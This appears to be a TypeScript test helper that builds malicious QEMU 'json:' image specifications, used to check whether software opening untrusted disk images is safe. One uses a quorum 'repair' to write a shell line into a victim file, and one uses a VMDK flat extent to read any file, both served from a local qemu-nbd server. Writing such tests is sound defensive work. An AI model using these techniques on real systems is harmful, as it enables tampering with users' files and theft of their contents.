import { type ChildProcess, spawn } from "node:child_process";
import { once } from "node:events";
import { readFileSync, writeFileSync } from "node:fs";
import type { AddressInfo } from "node:net";
import { connect, createServer } from "node:net";
import { join } from "node:path";
import { endChild } from "../end-child.ts";
import { until } from "../until.ts";

/** An attack on a file of the user, which works if QEMU opens an image that names `name`. */
export interface ImageAttack {
  /** The block specification that the image names; it holds no double quote. */
  readonly name: string;
  close(): Promise<void>;
}

/** The line that the attack writes into the victim. */
export const planted = "echo planted";

const description = `# Disk DescriptorFile
version=1
CID=fffffffe
parentCID=ffffffff
createType="monolithicFlat"
`;

/**
 * Has QEMU write the attacker's line into a file: two servers of the attacker's and the file form a
 * quorum, whose differing child QEMU "repairs". The written text is a description of a VMDK, whose
 * first line is a comment to a shell; the victim has at least 512 bytes.
 */
export async function startRepairAttack(folder: string, victim: string): Promise<ImageAttack> {
  const { server, close } = await serve(folder, `${description}${planted}\n#`);
  const own = `{'driver':'raw','size':512,'read-only':false,'file':{'driver':'file','filename':'${victim}','read-only':false}}`;
  const quorum = `{'driver':'quorum','vote-threshold':2,'rewrite-corrupted':true,'read-only':false,'children':[${server},${server},${own}]}`;
  return { name: `json:{'driver':'vmdk','read-only':false,'file':${quorum}}`, close };
}

/** Makes QEMU read a file as the image's own data, by a description on the attacker's server. */
export async function startReadAttack(folder: string, victim: string): Promise<ImageAttack> {
  const { server, close } = await serve(folder, `${description}RW 1 FLAT "${victim}" 0\n`);
  return { name: `json:{'driver':'vmdk','file':${server}}`, close };
}

/** Tells whether an unpacked file contains a text. */
export function holds(path: string, text: string): boolean {
  return readFileSync(path).includes(text);
}

/** A server of network block devices with one text, filled up with blank lines to a sector. */
async function serve(folder: string, text: string) {
  const file = join(folder, "served.raw");
  writeFileSync(file, text.padEnd(512, "\n"), { mode: 0o600 });
  const port = await freePort();
  // It continues when a client leaves, because it gets many.
  const words = ["-t", "-e", "9", "-f", "raw", "-b", "127.0.0.1", "-p", String(port), file];
  const child: ChildProcess = spawn("qemu-nbd", words, { stdio: "ignore" });
  await until("the attacker's server", () => answers(port));
  const place = `{'type':'inet','host':'127.0.0.1','port':'${port}'}`;
  return { server: `{'driver':'nbd','server':${place}}`, close: () => endChild(child) };
}

async function freePort(): Promise<number> {
  const probe = createServer().listen(0, "127.0.0.1");
  await once(probe, "listening");
  const { port } = probe.address() as AddressInfo;
  probe.close();
  await once(probe, "close");
  return port;
}

function answers(port: number): Promise<boolean> {
  return new Promise((resolve) => {
    const socket = connect(port, "127.0.0.1");
    socket.on("connect", () => {
      socket.destroy();
      resolve(true);
    });
    socket.on("error", () => resolve(false));
  });
}
